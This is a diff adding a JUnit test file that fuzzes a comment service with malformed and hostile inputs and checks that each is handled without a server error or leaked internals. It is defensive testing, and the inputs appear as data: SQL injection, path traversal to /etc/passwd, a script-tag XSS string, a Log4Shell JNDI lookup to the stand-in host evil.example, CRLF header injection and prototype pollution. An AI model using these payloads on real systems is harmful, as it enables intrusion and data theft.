@@ -1,0 +1,195 @@
+package io.causerie;
+
+import static io.causerie.TestApp.JSON;
+import static io.causerie.TestApp.SITE;
+import static io.causerie.TestApp.comment;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.causerie.testing.Answer;
+import io.vertx.core.buffer.Buffer;
+import io.vertx.core.http.HttpMethod;
+import java.util.List;
+import java.util.Map;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** Nothing that anybody sends is our failure, and every refusal is a problem with a code. */
+final class BadInputTest {
+  private static final List<String> BAD = List.of(
+      "",
+      "%00",
+      "%zz",
+      "%",
+      "%ff%fe",
+      "%ed%a0%80",
+      "%27%20or%201=1%20--",
+      "1;drop%20table%20comments",
+      "..%2f..%2fetc%2fpasswd",
+      "-1",
+      "NaN",
+      "99999999999999999999",
+      "ZZZZZZZZZZZZZ",
+      "7ZZZZZZZZZZZZ",
+      "%F0%9F%98%80",
+      "a".repeat(600),
+      "%E2%80%AE");
+
+  private static TestApp app;
+  private static String id;
+
+  @BeforeAll
+  static void start() {
+    app = TestApp.start();
+    id = app.postId(comment("/there", "Hello"));
+  }
+
+  @AfterAll
+  static void stop() {
+    app.close();
+  }
+
+  static Stream<String> reads() {
+    return Stream.of(
+            "/api/v1/sites/%s/comments?thread=a",
+            "/api/v1/sites/%s/counts?thread=a",
+            "/api/v1/sites/%s/me?thread=a",
+            SITE + "/comments?thread=%s",
+            SITE + "/comments?thread=a&sort=%s",
+            SITE + "/comments?thread=a&limit=%s",
+            SITE + "/comments?thread=a&after=%s",
+            SITE + "/comments?thread=a&body=%s",
+            SITE + "/comments?thread=a&thread=%s",
+            SITE + "/comments?%s=1",
+            SITE + "/counts?thread=%s",
+            SITE + "/me?thread=%s",
+            SITE + "/comments/%s",
+            SITE + "/comments/%s/replies",
+            SITE + "/comments/" + id + "/replies?limit=%s",
+            SITE + "/comments/" + id + "/replies?after=%s",
+            SITE + "/comments/%s/source",
+            SITE + "/%s",
+            "/api/v1/%s",
+            "/locales/%s",
+            "/demo/%s",
+            "/%s")
+        .flatMap(template -> BAD.stream().map(bad -> template.replace("%s", bad)));
+  }
+
+  @ParameterizedTest
+  @MethodSource("reads")
+  void noAddressIsOurFailure(String target) {
+    assertHandled(app.send(HttpMethod.GET, target, Map.of(), null));
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {"TRACE", "CONNECT", "FOO", "PROPFIND", "PUT", "DELETE", "PATCH", "POST", "OPTIONS"
+      })
+  void noMethodIsOurFailure(String method) {
+    for (String target : List.of(
+        "/",
+        "/nowhere",
+        "/health/live",
+        "/widget.js",
+        SITE + "/comments?thread=a",
+        SITE + "/comments/" + id,
+        SITE + "/comments/" + id + "/replies",
+        SITE + "/counts?thread=a",
+        SITE + "/preview",
+        SITE + "/me?thread=a")) {
+      assertHandled(app.send(HttpMethod.valueOf(method), target, Map.of(), null));
+    }
+  }
+
+  @Test
+  void anAddressOfOtherMethodsSaysSo() {
+    for (HttpMethod method : List.of(HttpMethod.PUT, HttpMethod.DELETE, HttpMethod.PATCH)) {
+      Answer refused = app.send(method, SITE + "/counts?thread=a", Map.of(), null);
+
+      assertThat(refused.status()).as(method.name()).isEqualTo(405);
+      assertThat(refused.code()).as(method.name()).isEqualTo("method_not_allowed");
+    }
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "'; drop table comments; --",
+        "{\"$gt\": \"\"}",
+        "<script>alert(1)</script>",
+        "${jndi:ldap://evil.example/a}",
+        "\u202Egnp.exe",
+        "\uFFFE\uFFFF",
+        "\r\nSet-Cookie: a=b",
+        "\t\u000B\f"
+      })
+  void noTextOfACommentIsOurFailure(String text) {
+    assertHandled(app.post(comment("/text", text)));
+    assertHandled(app.post(comment(text, "Hello")));
+    assertHandled(app.post(comment("/text", "Hello").put("title", text).put("url", text)));
+    assertHandled(app.post(comment("/text", "Hello").put("parentId", text)));
+    assertHandled(app.post(comment("/text", "Hello").put("author", text)));
+    assertThat(app.database().count("select count(*) from comments")).isPositive();
+  }
+
+  @Test
+  void noHeaderIsOurFailure() {
+    for (Map<String, String> headers : List.of(
+        Map.of("Authorization", "Bearer " + "x".repeat(4_000)),
+        Map.of("Authorization", ""),
+        Map.of("Origin", "::::"),
+        Map.of("Origin", ""),
+        Map.of("Idempotency-Key", ""),
+        Map.of("Content-Encoding", "gzip"),
+        Map.of("X-Forwarded-For", "' or 1=1"),
+        Map.of("Accept", "text/html"),
+        Map.of("If-None-Match", "W/\"\"\",,*"),
+        Map.of("Accept-Encoding", "gzip;q=x, ;;;"))) {
+      assertHandled(app.post(comment("/headers", "Hello"), headers));
+      assertHandled(app.get("/comments?thread=/headers", headers));
+      assertHandled(app.get("/me?thread=/headers", headers));
+    }
+  }
+
+  @Test
+  void headersWithoutEndAreRefused() {
+    Answer refused = app.get("/comments?thread=a", Map.of("X-Long", "x".repeat(20_000)));
+
+    assertHandled(refused);
+    assertThat(refused.status()).isGreaterThanOrEqualTo(400);
+  }
+
+  @Test
+  void noBodyIsOurFailure() {
+    for (String path : List.of("/comments", "/preview")) {
+      for (String body : List.of(
+          "",
+          "\u0000",
+          "{\"body\":" + "9".repeat(5_000) + "}",
+          "{\"thread\":\"a\",\"body\":\"a\",\"author\":{\"name\":{\"name\":{}}}}",
+          "\uFEFF{}",
+          "{\"__proto__\":{}}",
+          "{\"body\":\"" + "*_`[](<>)".repeat(1_000) + "\"}",
+          "{\"body\":\"" + "> ".repeat(4_900) + "a\"}",
+          "{\"body\":\"" + "[".repeat(9_900) + "\"}")) {
+        assertHandled(app.send(HttpMethod.POST, SITE + path, JSON, Buffer.buffer(body)));
+      }
+    }
+  }
+
+  /** Below 500, and if it is a refusal, then as a problem that says nothing from inside. */
+  private static void assertHandled(Answer answer) {
+    String request = answer.method() + " " + answer.target();
+    assertThat(answer.status()).as(request).isLessThan(500);
+    if (answer.status() >= 400 && !answer.method().equals(HttpMethod.HEAD)) {
+      assertThat(answer.header("Content-Type")).as(request).isEqualTo("application/problem+json");
+      assertThat(answer.code()).as(request).isNotEmpty();
+      assertThat(answer.text()).as(request).doesNotContain("Exception", "io.causerie", "select ");
+    }
+  }
+}
